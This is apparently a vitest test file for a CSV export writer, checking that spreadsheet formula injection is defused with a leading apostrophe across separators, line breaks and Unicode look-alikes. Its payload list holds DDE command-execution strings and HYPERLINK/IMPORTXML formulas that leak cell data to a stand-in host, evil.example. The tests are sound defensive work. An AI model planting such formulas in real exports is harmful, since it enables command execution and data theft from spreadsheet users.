import { describe, expect, it } from 'vitest';
import { readCsv } from '../../test/csv/read-csv';
import { csvCell, defuseFormula, toCsv } from './csv-write';

/** Known CSV/formula injection payloads, and the blanks and look-alikes that hide them. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '\0=1+1',
  '   =1+1',
  '\u00a0=1+1',
  '\u00a0\u00a0+SUM(1)',
  '\u3000=1+1',
  '\u202f@SUM(1)',
  '\uff1d1+1',
  '\uff0bSUM(1)',
  '\uff0d2+3',
  '\uff20SUM(1)',
  ' \u00a0\uff1dHYPERLINK("x")',
  '\ufe66cmd',
  '"=1+1"',
  ' "=1+1"',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  'He said "hi", then left',
  "line one\r\n=cmd|' /C calc'!A0",
  'line one\n@SUM(1)',
  'a;=1+1',
  'a; -2+3',
  'a,+1',
  'x;"=HYPERLINK(""y"")"',
  'Doe, Jane.jpg',
  'Müller; José.jpg',
  'jane.doe@contoso.com',
  '-',
  '=',
  '',
];

/** The operators a spreadsheet starts a formula with, as the writer's doc lists them. */
const HARMFUL_START = /^(?:[\t\r\n\0]|[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u2212])/u;
const harmless = (cell: string) => !HARMFUL_START.test(cell);

/**
 * `written` is `original` with apostrophes inserted only where the writer defuses: at the start, or right after a
 * separator or line break. Walks both strings, so any other difference fails.
 */
function isOriginalPlusDefusing(written: string, original: string): boolean {
  let j = 0;
  for (let i = 0; i < written.length; i++) {
    if (j < original.length && written[i] === original[j]) {
      j++;
      continue;
    }
    const previous = i === 0 ? '' : written[i - 1]!;
    if (written[i] === "'" && (i === 0 || ',;\t\r\n'.includes(previous))) continue;
    return false;
  }
  return j === original.length;
}

describe('csvCell', () => {
  it('quotes every text cell, leaves finite numbers bare and empty values empty', () => {
    expect(csvCell('plain.jpg')).toBe('"plain.jpg"');
    expect(csvCell('Doe, Jane.jpg')).toBe('"Doe, Jane.jpg"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(Number.NaN)).toBe('"NaN"');
    expect(csvCell(false)).toBe('"false"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('defuses formulas with a leading apostrophe (OWASP), also behind blanks and full-width forms', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(1)')).toBe(`"'@SUM(1)"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('  =1')).toBe(`"'  =1"`);
    expect(csvCell('\u00a0=1')).toBe(`"'\u00a0=1"`);
    expect(csvCell('\uff1d1')).toBe(`"'\uff1d1"`);
    // OWASP's own examples.
    expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";'=1+2"`);
    // Not formulas: left as they are.
    expect(defuseFormula('jane-doe.jpg')).toBe('jane-doe.jpg');
    expect(defuseFormula('a@b.com')).toBe('a@b.com');
    expect(defuseFormula("'=already text")).toBe("'=already text");
  });

  it('defuses a dangerous start after an inner separator or line break', () => {
    expect(defuseFormula('a;=1+1')).toBe("a;'=1+1");
    expect(defuseFormula('a, -2')).toBe("a,' -2");
    expect(defuseFormula('one\r\n@SUM(1)')).toBe("one\r\n'@SUM(1)");
    expect(defuseFormula('Müller; José.jpg')).toBe('Müller; José.jpg');
  });
});

describe('toCsv with known injection payloads, read as Excel reads it', () => {
  const header = ['first', 'payload', 'bytes', 'again', 'last'];
  const rows = PAYLOADS.map((p) => ['before', p, 42, p, 'after']);

  for (const separator of [',', ';'] as const) {
    it(`written with '${separator}' and read with '${separator}': one cell each, harmless, the same text`, () => {
      const text = toCsv(header, rows, { separator });
      expect(text.startsWith('\ufeff')).toBe(true);
      const records = readCsv(text, separator);
      expect(records).toHaveLength(rows.length + 1);
      expect(records[0]).toEqual(header);
      records.slice(1).forEach((cells, r) => {
        const original = PAYLOADS[r]!;
        expect(cells, JSON.stringify(original)).toHaveLength(5);
        for (const cell of cells) expect(harmless(cell), JSON.stringify(cell)).toBe(true);
        expect(cells[0]).toBe('before');
        expect(cells[2]).toBe('42');
        expect(cells[4]).toBe('after');
        for (const cell of [cells[1]!, cells[3]!]) {
          expect(
            isOriginalPlusDefusing(cell, original),
            `${JSON.stringify(cell)} vs ${JSON.stringify(original)}`,
          ).toBe(true);
        }
      });
    });
  }

  it("one text cell per line reads the same with ',' and ';'", () => {
    for (const written of [',', ';'] as const) {
      const text = toCsv(
        ['payload'],
        PAYLOADS.map((p) => [p]),
        { separator: written },
      );
      for (const read of [',', ';']) {
        const records = readCsv(text, read).slice(1);
        expect(records).toHaveLength(PAYLOADS.length);
        records.forEach((cells, r) => {
          expect(cells).toHaveLength(1);
          expect(harmless(cells[0]!), JSON.stringify(cells[0])).toBe(true);
          expect(isOriginalPlusDefusing(cells[0]!, PAYLOADS[r]!)).toBe(true);
        });
      }
    }
  });

  it('read with the other list separator (a German or French Excel opening a comma file), no cell starts a formula', () => {
    for (const [written, read] of [
      [',', ';'],
      [';', ','],
    ] as const) {
      const records = readCsv(toCsv(header, rows, { separator: written }), read);
      // The lines fall apart into other cells (and a line break in a cell starts a new row), but none is a formula.
      expect(records.length).toBeGreaterThan(rows.length);
      for (const cells of records)
        for (const cell of cells) expect(harmless(cell), JSON.stringify(cell)).toBe(true);
    }
  });

  it('ends lines with CRLF, and can leave out the byte order mark', () => {
    const text = toCsv(['a', 'b'], [['x', 1]], { bom: false });
    expect(text).toBe('"a","b"\r\n"x",1\r\n');
  });
});
